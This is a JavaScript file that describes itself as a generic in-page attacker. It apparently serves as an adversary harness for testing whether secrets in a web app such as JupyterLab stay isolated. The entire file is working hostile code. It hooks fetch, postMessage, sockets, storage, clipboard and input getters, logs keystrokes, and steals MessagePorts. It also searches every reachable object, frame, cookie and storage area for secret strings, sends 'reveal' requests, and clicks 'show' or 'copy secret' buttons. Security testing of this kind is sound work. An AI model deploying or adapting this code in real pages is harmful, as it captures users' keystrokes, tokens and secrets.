// A generic attacker in the page: takes what passes, and searches all that can be reached for the needles that it
// is given. Without needles it would have to keep every string, which gives the same, only slower.
(() => {
  const taken = [];
  const take = (where, what) => taken.push([where, what]);

  // -- what passes ----------------------------------------------------------------------------
  const wrap = (owner, name, where = name) => {
    const own = owner?.[name];
    if (typeof own !== "function") return;
    const wrapped = function (...args) {
      take(where, [this, args]);
      const given = Reflect.apply(own, this, args);
      take(`result of ${where}`, given);
      return given;
    };
    Object.defineProperty(owner, name, { value: wrapped, configurable: true, writable: true });
  };
  const spy = (owner, name) => {
    const found = Object.getOwnPropertyDescriptor(owner, name);
    if (!found?.get) return;
    const get = function () {
      const given = Reflect.apply(found.get, this, []);
      take(`getter ${name}`, given);
      return given;
    };
    const set = function (value) {
      take(`setter ${name}`, value);
      return found.set && Reflect.apply(found.set, this, [value]);
    };
    Object.defineProperty(owner, name, { get, set, configurable: true });
  };
  const ports = [];
  wrap(window, "postMessage", "window.postMessage");
  wrap(window, "fetch");
  wrap(window, "structuredClone");
  wrap(window, "btoa");
  wrap(window, "atob");
  wrap(MessagePort.prototype, "postMessage", "port.postMessage");
  wrap(MessagePort.prototype, "start", "port.start");
  wrap(WebSocket.prototype, "send", "socket.send");
  wrap(XMLHttpRequest.prototype, "send", "request.send");
  wrap(Navigator.prototype, "sendBeacon");
  wrap(Storage.prototype, "setItem");
  wrap(IDBObjectStore.prototype, "put");
  wrap(TextEncoder.prototype, "encode");
  wrap(TextDecoder.prototype, "decode");
  wrap(EventTarget.prototype, "addEventListener");
  wrap(Clipboard.prototype, "writeText");
  wrap(Map.prototype, "set", "map.set");
  for (const name of ["importKey", "sign", "digest"]) wrap(globalThis.SubtleCrypto?.prototype, name);
  for (const name of ["data", "ports", "source"]) spy(MessageEvent.prototype, name);
  for (const name of ["srcdoc", "contentWindow"]) spy(HTMLIFrameElement.prototype, name);
  for (const owner of [HTMLInputElement, HTMLTextAreaElement]) spy(owner.prototype, "value");
  spy(MessagePort.prototype, "onmessage");
  const startPort = MessagePort.prototype.start;
  const hold = (port) => {
    if (ports.includes(port)) return;
    ports.push(port);
    port.addEventListener("message", (event) => take("message of a stolen port", event.data));
    startPort.call(port);
  };

  const iterate = Array.prototype[Symbol.iterator];
  const iterated = function () {
    for (let n = 0; n < this.length && n < 4; n++) if (this[n] instanceof MessagePort) hold(this[n]);
    return Reflect.apply(iterate, this, []);
  };
  Object.defineProperty(Array.prototype, Symbol.iterator, { value: iterated, configurable: true, writable: true });

  let letters = "";
  const kinds = ["keydown", "keypress", "keyup", "beforeinput", "input", "change", "paste", "copy", "cut"];
  for (const kind of [...kinds, "compositionupdate", "compositionend", "message", "drop"]) {
    window.addEventListener(
      kind,
      (event) => {
        if (kind === "keypress") letters += event.key;
        take(`event ${kind}`, [event.key, event.data, event.target?.value]);
        take(`event ${kind}`, event.clipboardData?.getData("text"));
        for (const port of event.ports ?? []) hold(port);
      },
      true,
    );
  }

  // -- what can be reached --------------------------------------------------------------------
  const prototypes = new Set([Object, Array, Map, Set, Promise, Function].map((made) => made.prototype));
  const latin = (bytes) => {
    let text = "";
    for (let at = 0; at < bytes.length; at += 8192) text += String.fromCharCode(...bytes.subarray(at, at + 8192));
    return text;
  };
  const quietly = (act) => {
    try {
      return act();
    } catch {
      return undefined; // another origin, or a getter that throws
    }
  };

  /** Walks all that is reachable, and gives the paths at which there is a needle. The page has its turns meanwhile. */
  const search = async (needles) => {
    const seen = new Set();
    const places = new Set();
    const counted = { objects: 0, strings: 0, windows: 0 };
    const todo = [];
    const look = (value, path) => {
      if (typeof value === "string") {
        counted.strings += 1;
        if (needles.some((needle) => value.includes(needle))) places.add(path);
      } else if (value !== null && (typeof value === "object" || typeof value === "function")) {
        if (!seen.has(value)) {
          seen.add(value);
          todo.push([value, path.length > 300 ? `${path.slice(0, 100)}…` : path]);
        }
      } else if (typeof value === "symbol") look(value.description, path);
    };
    const own = (object, path) => {
      for (const key of quietly(() => Reflect.ownKeys(object)) ?? []) {
        const about = quietly(() => Reflect.getOwnPropertyDescriptor(object, key));
        const name = `${path}.${String(key)}`;
        look(String(key), `${name} (its name)`);
        if (about && "value" in about) look(about.value, name);
        else if (about) for (const way of [about.get, about.set]) look(way, name);
      }
    };
    const elements = (object, path) => {
      for (const name of ["value", "defaultValue", "placeholder", "textContent", "srcdoc", "title", "data"])
        look(quietly(() => object[name]), `${path}.${name}`);
      for (const { name, value } of quietly(() => object.attributes) ?? []) look(value, `${path}@${name}`);
      for (const name of ["shadowRoot", "contentDocument", "contentWindow", "ownerDocument", "parentNode"])
        look(quietly(() => object[name]), `${path}.${name}`);
      for (const child of quietly(() => object.childNodes) ?? [])
        look(child, `${path}/${child.nodeName.toLowerCase()}`);
    };
    const inside = (object, path) => {
      if (object instanceof Node) elements(object, path);
      else if (object instanceof Map || object instanceof FormData || object instanceof URLSearchParams)
        for (const [key, value] of object) for (const part of [key, value]) look(part, `${path}[entry]`);
      else if (object instanceof Set) for (const value of object) look(value, `${path}[member]`);
      else if (object instanceof ArrayBuffer) look(latin(new Uint8Array(object)), `${path} (bytes)`);
      else if (ArrayBuffer.isView(object))
        look(latin(new Uint8Array(object.buffer, object.byteOffset, object.byteLength)), `${path} (bytes)`);
      else if (object instanceof MessagePort) hold(object);
    };
    const windows = (frame, path) => {
      counted.windows += 1;
      for (const name of ["name", "document", "localStorage", "sessionStorage", "performance", "history"])
        look(quietly(() => frame[name]), `${path}.${name}`);
      for (let n = 0; n < frame.length; n++) look(frame[n], `${path}[${n}]`);
      const said = { op: "reveal", type: "reveal", slot: "github", id: 1 };
      for (const message of [said, "vault/1", { ...said, role: "keeper" }, { ...said, role: "field" }]) {
        const { port1, port2 } = new MessageChannel();
        hold(port1);
        quietly(() => frame.postMessage(message, "*", [port2]));
      }
    };
    for (const [root, path] of [
      [window, "window"],
      [document, "document"],
      [taken, "taken"],
      [window.jupyterapp, "jupyterapp"],
      [letters, "keys"],
      [JSON.stringify(Object.entries(localStorage)), "localStorage"],
      [JSON.stringify(Object.entries(sessionStorage)), "sessionStorage"],
      [JSON.stringify(performance.getEntries()), "performance"],
      [`${document.cookie} ${document.title} ${location.href}`, "cookie, title or address"],
    ])
      look(root, path);
    for (const port of ports) for (const op of ["reveal", "get", "export"]) port.postMessage({ id: 1, op });

    const began = performance.now();
    let since = began;
    while (todo.length > 0) {
      const [object, path] = todo.pop();
      counted.objects += 1;
      quietly(() => object.window === object && windows(object, path));
      if (!ArrayBuffer.isView(object)) own(object, path); // a key for each byte
      const above = quietly(() => Object.getPrototypeOf(object));
      if (above && !prototypes.has(above)) look(above, `${path}.__proto__`);
      quietly(() => inside(object, path));
      if (performance.now() - since > 50) {
        await new Promise((done) => setTimeout(done));
        since = performance.now();
      }
    }
    return { places: [...places], ...counted, seconds: (performance.now() - began) / 1000 };
  };

  /** Presses what shows or copies a secret. */
  const press = () => {
    const inside = (root) => {
      for (const element of root.querySelectorAll("*")) {
        if (element.shadowRoot) inside(element.shadowRoot);
        const name = `${element.ariaLabel ?? ""} ${element.textContent}`;
        if (element.localName === "button" && /^\s*(show|copy secret|copy)\b/i.test(name)) element.click();
      }
    };
    for (const region of document.querySelectorAll(".hw section")) inside(region);
  };

  // Needles come shifted by one character each: what passes them on must not be found itself.
  const shifted = (text) => text.replace(/./gs, (char) => String.fromCharCode(char.charCodeAt(0) - 1));
  const report = { rounds: 0, places: [], letters: "", windows: 0, objects: 0, strings: 0 };
  const attack = async (given, pauseMs) => {
    const needles = given.map(shifted);
    const places = new Set();
    while (true) {
      const { places: found, ...counted } = await search(needles);
      for (const place of found) places.add(place);
      Object.assign(report, counted, { places: [...places], letters, rounds: report.rounds + 1 });
      press();
      await new Promise((done) => setTimeout(done, pauseMs));
    }
  };
  window.attacker = { attack: (needles, pauseMs) => void attack(needles, pauseMs), report: () => ({ ...report, letters }) };
})();
